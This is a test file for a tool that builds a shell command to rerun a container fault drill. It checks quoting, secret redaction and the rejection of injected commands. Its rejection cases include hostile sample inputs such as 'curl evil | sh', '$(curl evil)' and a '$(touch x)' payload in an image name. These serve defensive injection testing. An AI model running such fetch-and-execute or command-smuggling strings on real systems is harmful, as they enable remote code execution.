import { execFileSync } from "node:child_process";
import { renameSync } from "node:fs";
import { describe, expect, test } from "vitest";
import { localCommand } from "../../../src/config/local-command.ts";
import { FILE_INPUTS, rowOf } from "../../../src/config/table.ts";
import { experiments } from "../../../src/experiments/registry.ts";
import { DEFAULT_PLAN } from "../../../src/model/default-plan.ts";
import { isLocalCommand } from "../../../src/model/text/local-command.ts";
import { inWorkspace, ofPlan, ofStep, ofTerminal, PLAN } from "./support.ts";

/** What a shell makes of a command. */
function words(command: string): string[] {
  const printed = execFileSync("sh", ["-c", `printf '%s\\0' ${command.replace(/^npm run drill --/, "")}`], {
    encoding: "utf8",
  });
  return printed.split("\0").slice(0, -1);
}

describe("the command that runs the same drill in a terminal", () => {
  test("says only what differs from the defaults", () => {
    expect(localCommand(ofStep({}).plan)).toBe("npm run drill -- --image qwen-allinone:1");
    expect(localCommand(ofStep({ "max-p95": "5s", "read-only": "true" }).plan)).toBe(
      "npm run drill -- --image qwen-allinone:1 --read-only --max-p95 5s",
    );
  });

  test("the default plan is the one that the inputs make", () => {
    const { plan } = ofStep({});
    expect(plan).toEqual({
      ...DEFAULT_PLAN,
      target: { ...DEFAULT_PLAN.target, image: "qwen-allinone:1" },
      experiments: DEFAULT_PLAN.experiments.map((experiment) => ({ ...experiment, inputs: {} })),
    });
  });

  test("names the baseline, and its limit only where it is another", () => {
    expect(localCommand(ofStep({ "baseline-image": "qwen:main" }).plan)).toBe(
      "npm run drill -- --image qwen-allinone:1 --baseline-image qwen:main",
    );
    expect(localCommand(ofTerminal(["--baseline-image", "a"]).inputs.plan, { kind: "reference", size: "0.5b" })).toBe(
      "npm run drill -- --baseline-image a",
    );
  });

  test("read again, it is the same plan", () => {
    const { plan } = ofStep({
      "baseline-image": "ghcr.io/octo/qwen:main",
      "max-slowdown": "107.5%",
      "container-port": "9000",
      "predict-path": "/p?a=1&b='2'",
      cpus: "0.55",
      memory: "1.5g",
      "read-only": "true",
      "restart-policy": "on-failure:2",
      network: "shop_default",
      "ready-timeout": "90.5s",
      experiments: "kill-restart,cpu-overload",
      "stress-workers": "3",
      load: "2.5/s",
      prompts: "fixed",
      "request-timeout": "20s",
      duration: "30s",
      "max-duration": "7m",
      "min-availability": "92.3%",
      "max-p95": "1234ms",
      "max-recovery": "1h",
      "on-inconclusive": "fail",
    });
    expect(ofTerminal(words(localCommand(plan))).inputs.plan).toEqual(plan);
  });

  test.each([
    [{ stream: "true" }, " --stream"],
    [{ stream: "true", service: "openai-chat", model: "m" }, " --service openai-chat --model m --stream"],
    [
      { stream: "true", "stream-format": "ndjson", answer: "text: /message/content\nreasoning: /thinking" },
      " --answer 'text: /message/content' --answer 'reasoning: /thinking' --stream --stream-format ndjson",
    ],
  ])("a streamed answer comes back from %j", (given, flags) => {
    const { plan } = ofStep(given);
    expect(localCommand(plan)).toBe(`npm run drill -- --image qwen-allinone:1${flags}`);
    expect(ofTerminal(words(localCommand(plan))).inputs.plan).toEqual(plan);
  });

  test("values of the environment stay out, their names do not", () => {
    const { plan } = ofStep({ env: "API_KEY=hunter2\nCUDA_VISIBLE_DEVICES=-1" });
    expect(localCommand(plan)).toBe("npm run drill -- --image qwen-allinone:1 --env 'API_KEY=…'");
  });

  test("the words of the command stay out, that there is one does not", () => {
    const { plan } = ofStep({ command: "serve --api-key hunter2-hunter2" });
    expect(localCommand(plan)).toBe("npm run drill -- --image qwen-allinone:1 --command '…'");
  });

  test.each<[Readonly<Record<string, string>>, string]>([
    [{ service: "openai-chat" }, "--service openai-chat"],
    [{ service: "openai-chat", model: "qwen2.5:0.5b" }, "--service openai-chat --model qwen2.5:0.5b"],
    [{ service: "openai-chat", "predict-path": "/chat" }, "--service openai-chat --predict-path /chat"],
    [
      { request: '["it\'s {{input}}"]', answer: "text: /0\nlabel: /1" },
      `--request '["it'\\''s {{input}}"]' --answer 'text: /0' --answer 'label: /1'`,
    ],
    [{ answer: "text: /response\nlabel: /sentiment" }, "--answer 'text: /response' --answer 'label: /sentiment'"],
  ])("of a service of another shape, read again, it is the same plan: %j", (given, flags) => {
    const { plan } = ofStep(given);
    expect(localCommand(plan)).toBe(`npm run drill -- --image qwen-allinone:1 ${flags}`);
    expect(ofTerminal(words(localCommand(plan))).inputs.plan).toEqual(plan);
  });

  test("a request that is too long for a command stays out", () => {
    const { plan } = ofStep({ request: JSON.stringify({ system: "x".repeat(3_000), input: "{{input}}" }) });
    expect(localCommand(plan)).toBe("npm run drill -- --image qwen-allinone:1 --request '…'");
  });

  test("values of headers stay out, their names do not", () => {
    const { plan } = ofStep({ "request-headers": "Authorization: Bearer hunter2" });
    expect(localCommand(plan)).toBe("npm run drill -- --image qwen-allinone:1 --request-headers 'authorization: …'");
  });

  test("with a plan file names it, and only the inputs that override it", () => {
    const command = (file: string, given: Readonly<Record<string, string>>) => {
      const { plan, planFile } = ofPlan(file, given);
      return localCommand(plan, { kind: "image", planFile });
    };
    const file =
      "image: qwen:2\nmax-p95: 5s\nread-only: true\nstress-workers: 4\nexperiments: [{kind: kill-restart, repeat: 2}]\n";
    const start = "npm run drill -- --plan .github/fault-drill.yml";
    expect(command(file, { image: "" })).toBe(start);
    expect(command(file, {})).toBe(`${start} --image qwen-allinone:1`);
    expect(command(file, { "max-p95": "8s", env: "A=1", "github-token": "t", comment: "true", pull: "never" })).toBe(
      `${start} --image qwen-allinone:1 --env 'A=…' --max-p95 8s`,
    );
    expect(
      command(file, { "read-only": "false", "stress-workers": "2", experiments: "kill-restart, cpu-overload" }),
    ).toBe(
      `${start} --image qwen-allinone:1 --no-read-only --experiments kill-restart,cpu-overload --stress-workers 2`,
    );
  });

  test("with a plan file, read again, it is the same plan", () => {
    const file = "cpus: 2\nmax-p95: 7s\nexperiments: [{kind: cpu-overload, workers: 4, max-p95: 9s}, terminate]\n";
    inWorkspace(file, (workspace) => {
      const path = `${workspace}/it's a plan`;
      renameSync(`${workspace}/${PLAN}`, path);
      const once = ofTerminal(["--plan", path, "--quick", "--stress-workers=2", "--memory", "1g"]).inputs;
      const command = localCommand(once.plan, { kind: "reference", size: "tiny", planFile: once.planFile });
      expect(ofTerminal(words(command)).inputs.plan).toEqual(once.plan);
    });
  });

  test("the reference image needs no name", () => {
    expect(localCommand(ofTerminal([]).inputs.plan, { kind: "reference", size: "0.5b" })).toBe("npm run drill --");
    expect(localCommand(ofTerminal(["--size", "tiny"]).inputs.plan, { kind: "reference", size: "tiny" })).toBe(
      "npm run drill -- --size tiny",
    );
  });

  test("a shell expands nothing of it", () => {
    const plan = { ...DEFAULT_PLAN, target: { ...DEFAULT_PLAN.target, image: "a'$(touch x)`b`;c" } };
    expect(words(localCommand(plan))).toEqual(["--image", "a'$(touch x)`b`;c"]);
  });
});

describe("a command that was read from a file", () => {
  test.each([
    {},
    { "max-p95": "5s", "read-only": "true" },
    { env: "A=it's\nB=2", command: "serve --fast", request: '{"text": "{{input}}", "x": "$(id)"}' },
  ])("is one of ours when we made it: %j", (inputs) => {
    expect(isLocalCommand(localCommand(ofStep(inputs).plan))).toBe(true);
  });

  test.each([
    "curl evil | sh",
    "npm run drill -- --image a; curl evil",
    "npm run drill -- --image a && curl evil",
    "npm run drill -- --image $(curl evil)",
    "npm run drill -- --image `id`",
    "npm run drill -- --image 'a' 'b\nid'",
    "npm run drill -- --image 'a",
    "npm run drill -- --image a\nid",
    "npm run drill  -- --image a",
  ])("is none when a shell makes more of it: %j", (text) => {
    expect(isLocalCommand(text)).toBe(false);
  });
});

test("the inputs of the faults are all there are", () => {
  const inputs = experiments.flatMap(({ parameters }) => Object.values(parameters).flatMap(({ input }) => input ?? []));
  const kinds = experiments.map(({ kind }) => ({
    kind,
    name: kind,
    parameters: {},
    inputs: Object.fromEntries(inputs.map((name) => [name, "1"])),
  }));
  const command = localCommand({ ...DEFAULT_PLAN, experiments: kinds });
  for (const input of inputs) expect(command).toContain(` --${input} 1`);
});

test("has every input that a plan file may set, but for how to get the image and the language", () => {
  expect(FILE_INPUTS.filter((name) => rowOf(name).print === undefined)).toEqual(["pull", "language"]);
});
